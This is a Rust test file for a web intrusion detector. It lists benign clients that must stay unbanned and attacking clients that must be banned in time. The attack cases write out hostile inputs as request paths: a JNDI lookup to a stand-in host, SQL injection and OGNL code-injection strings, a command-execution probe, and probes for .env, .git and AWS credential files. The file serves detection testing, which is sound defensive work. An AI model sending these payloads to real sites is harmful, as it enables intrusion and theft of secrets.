//! Kinds of clients that were thought of after the rules, each for some minutes on a new site: who must stay, and who must
//! be banned. Names and rates are made up; the kinds are from public documentation and reports.

use std::net::{IpAddr, Ipv4Addr};

use crate::detect::detector::{Detector, Standing};
use crate::detect::policy::Policy;
use crate::vocab::request::Request;
use crate::vocab::verdict::Verdict;

const START: i64 = 1_767_600_000;

/// Method, target, status.
type Asked = (&'static str, String, u16);

/// What one client asks for at second `t`.
type Kind = (&'static str, i64, fn(i64) -> Vec<Asked>);

fn get(path: impl Into<String>, status: u16) -> Asked {
    ("GET", path.into(), status)
}

/// A number's digits as letters, so that each is a word of its own.
fn word(n: i64) -> String {
    (0..5).map(|at| char::from(b'a' + ((n * 7919 + 13) / 26_i64.pow(at) % 26) as u8)).collect()
}

fn hash(n: i64) -> String {
    format!(
        "{:016x}{:016x}{:08x}",
        (n as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15),
        n as u64 ^ 0x5851_f42d_4c95_7f2d,
        n
    )
}

fn every(secs: i64, t: i64, asked: impl FnOnce() -> Vec<Asked>) -> Vec<Asked> {
    if t % secs == 0 { asked() } else { Vec::new() }
}

/// The second of the first ban.
fn banned_at((_, secs, asks): &Kind) -> Option<i64> {
    let mut detector = Detector::new(Policy::default(), 64, 1);
    (0..*secs).find(|t| {
        asks(*t).iter().any(|(method, path, status)| {
            let request = Request {
                addr: IpAddr::V4(Ipv4Addr::new(198, 51, 100, 7)),
                time: START + t,
                method: method.as_bytes(),
                path: path.as_bytes(),
                status: *status,
                size: 150,
                behind_proxy: false,
            };
            let prepared = detector.prepare(&request);
            detector.observe(&request, START + t, &prepared, Standing::Normal) != Verdict::Normal
        })
    })
}

/// What a foreign page can make its visitors ask for.
fn five_probes() -> Vec<Asked> {
    ["/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/vendor/phpunit/x/eval-stdin.php"]
        .map(|path| get(path, 404))
        .into()
}

const STAY: [Kind; 20] = [
    ("a program with a wrong password that watches six things all along", 1800, |t| {
        every(15, t, || (0..6).map(|n| get(format!("/metrics/{n}/"), 401)).collect())
    }),
    ("a page that asks for twenty switches, none of which there is, each half minute", 3600, |t| {
        every(30, t, || (0..20).map(|n| get(format!("/flags/{}", word(n)), 404)).collect())
    }),
    ("a page that was open overnight, and asks on", 1500, |t| match t {
        0 => vec![get("/", 200)],
        1000.. => vec![get("/api/notifications", 401)],
        _ => Vec::new(),
    }),
    ("covers by number, every second one missing", 20, |t| {
        (0..8)
            .map(|n| 8 * t + n)
            .map(|n| get(format!("/cover/{n}"), if n % 2 == 0 { 200 } else { 404 }))
            .collect()
    }),
    ("a player that looks for what belongs to its films", 60, |t| {
        let film = |end: &str| format!("/films/{}/film{end}", word(t / 4));
        let beside = [".nfo", "-poster.jpg", "-fanart.jpg", ".tbn", ".srt", ".sub", ".idx", ".ass"];
        let found = get(film(".mkv"), 206);
        every(4, t, || beside.iter().map(|end| get(film(end), 404)).chain([found]).collect())
    }),
    ("an installer of modules whose proxy has none", 120, |t| {
        vec![get(format!("/{}.org/{}/@v/list", word(t), word(t + 300)), 404)]
    }),
    ("a page of comments without the writers' pictures", 60, |t| {
        every(20, t, || {
            let pictures = (0..70).map(|n| get(format!("/avatar/{}", hash(100 * t + n)), 404));
            [get("/blog", 200)].into_iter().chain(pictures).collect()
        })
    }),
    ("a library of films, most without a poster", 30, |t| {
        every(10, t, || {
            let poster = |n: i64| format!("/Items/{}/Images/Primary", &hash(100 * t + n)[..32]);
            (0..90).map(|n| get(poster(n), if n % 3 == 0 { 200 } else { 404 })).collect()
        })
    }),
    ("a game that loads its files", 120, |t| {
        (0..50).map(|n| get(format!("/patch/{}.bin", hash(50 * t + n)), 200)).collect()
    }),
    ("a compiler's cache, half empty", 120, |t| {
        let object = |n: i64| format!("/ccache/{}/{}", &hash(n)[..2], &hash(n)[2..]);
        (0..20).map(|n| get(object(20 * t + n), if n % 2 == 0 { 404 } else { 200 })).collect()
    }),
    ("a build cache that only reads and is empty", 120, |t| {
        let object = |h: String| format!("/sccache/{}/{}/{}/{h}", &h[..1], &h[1..2], &h[2..3]);
        (0..10).map(|n| get(object(hash(10 * t + n)), 404)).collect()
    }),
    ("forty telephones behind one address", 160, |t| {
        every(4, t, || {
            let phone = format!("/prov/805ec0{:06x}", t / 4);
            vec![
                get(phone.clone() + ".cfg", 404),
                get("/prov/y000000000044.cfg", 200),
                get(phone + ".boot", 404),
            ]
        })
    }),
    ("a telephone that looks for icons in all sizes", 60, |t| {
        let sizes = ["", "-57x57", "-60x60", "-76x76", "-120x120", "-152x152", "-180x180"];
        every(20, t, || {
            let ends = ["", "-precomposed"].into_iter();
            let names = sizes.iter().flat_map(|size| ends.clone().map(move |end| format!("{size}{end}")));
            names.map(|name| get(format!("/apple-touch-icon{name}.png"), 404)).collect()
        })
    }),
    ("a crawler that looks for maps and feeds", 60, |t| {
        let names = ["robots.txt", "sitemap.xml", "sitemap_index.xml", "sitemap.xml.gz", "news-sitemap.xml"];
        let feeds =
            ["feed", "rss", "rss.xml", "atom.xml", "feed.xml", "index.xml", ".well-known/security.txt"];
        names
            .iter()
            .chain(&feeds)
            .nth(t as usize)
            .map(|name| get(format!("/{name}"), 404))
            .into_iter()
            .collect()
    }),
    ("a crawler that leaves the root by links that are wrong", 300, |t| {
        every(5, t, || {
            let is_wrong = t % 10 == 5;
            vec![if is_wrong {
                get(format!("/../page{}.php", t / 10 % 9), 404)
            } else {
                get(format!("/news/{}", word(t)), 200)
            }]
        })
    }),
    ("a visitor of a foreign page with probes for pictures", 60, |t| {
        if t == 3 { five_probes() } else { Vec::new() }
    }),
    ("who mistypes a password eight times", 240, |t| {
        every(30, t, || vec![get("/wp-login.php", 200), ("POST", "/wp-login.php".to_owned(), 200)])
    }),
    ("a program that renews its session in vain", 600, |t| {
        every(2, t, || vec![("POST", "/api/session".to_owned(), 401)])
    }),
    ("an installer whose mirror lacks most packages", 120, |t| {
        let status = |n| if n % 4 == 0 { 200 } else { 404 };
        (5 * t..5 * t + 5).map(|n| get(format!("/simple/{}/", word(n)), status(n))).collect()
    }),
    ("a server that asks for authors, most of them gone", 900, |t| {
        every(3, t, || vec![get(format!("/users/{}", word(t)), [410, 404, 200][t as usize / 3 % 3])])
    }),
];

/// With the seconds within which they must be banned.
const BAN: [(Kind, i64); 12] = [
    (
        ("a look-up in paths that do not exist", 60, |t| {
            vec![get(format!("/{}/%24%7Bjndi:ldap:%2f%2f203.0.113.9%7D", word(t)), 404)]
        }),
        10,
    ),
    (
        ("SQL in a parameter of a page that is served", 60, |t| {
            let names = ["1'%20OR%201=1", "1%20UNION%20SELECT%202", "1+AND+SLEEP(5)", "1'+ORDER+BY+9--"];
            vec![get(format!("/item?id={}&n={t}", names[t as usize % 4]), [200, 500][t as usize % 2])]
        }),
        20,
    ),
    (
        ("code in a parameter of a page that is served", 60, |t| {
            vec![get(format!("/contact?x=%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D&n={t}"), 200)]
        }),
        20,
    ),
    (
        ("a repository that is served, file by file", 60, |t| {
            vec![get(format!("/.git/objects/{}/{}", &hash(t)[..2], &hash(t)[2..]), 200)]
        }),
        30,
    ),
    (
        ("passwords of the server's own, from a newcomer", 1200, |t| match t {
            0 => vec![get("/", 200)],
            1000.. if t % 3 > 0 => vec![get("/admin/", 401)],
            _ => Vec::new(),
        }),
        1150,
    ),
    (
        ("codes at a form that nobody used before", 200, |t| {
            vec![("POST", "/cart/coupon".to_owned(), 422); 1 + t as usize % 2]
        }),
        90,
    ),
    (
        ("a wrong password every 28 seconds", 900, |t| {
            every(28, t, || vec![("POST", "/wp-login.php".to_owned(), 200)])
        }),
        600,
    ),
    (
        ("passwords that an application does not accept", 300, |t| {
            every(3, t, || vec![("POST", "/api/session".to_owned(), 422)])
        }),
        60,
    ),
    (
        ("one command at many places, half of them failing", 120, |t| {
            vec![("POST", format!("/api/{}/exec?cmd=id", word(t)), [404, 500][t as usize % 2])]
        }),
        20,
    ),
    (("the same five probes every second", 60, |_| five_probes()), 6),
    (
        ("a list of scripts, one in 20 s", 900, |t| {
            every(20, t, || vec![get(format!("/{}.php", word(t)), 404)])
        }),
        240,
    ),
    (
        ("five probes, and a sixth a minute later", 120, |t| match t {
            3 => five_probes(),
            63 => vec![get("/.aws/credentials", 404)],
            _ => Vec::new(),
        }),
        64,
    ),
];

#[test]
fn who_must_stay() {
    let banned: Vec<_> = STAY.iter().filter_map(|kind| banned_at(kind).map(|at| (kind.0, at))).collect();
    assert!(banned.is_empty(), "{banned:?}");
}

#[test]
fn who_must_be_banned_in_time() {
    let late: Vec<_> = BAN
        .iter()
        .map(|(kind, secs)| (kind.0, banned_at(kind), *secs))
        .filter(|(_, at, secs)| at.is_none_or(|at| at > *secs))
        .collect();
    assert!(late.is_empty(), "{late:?}");
}
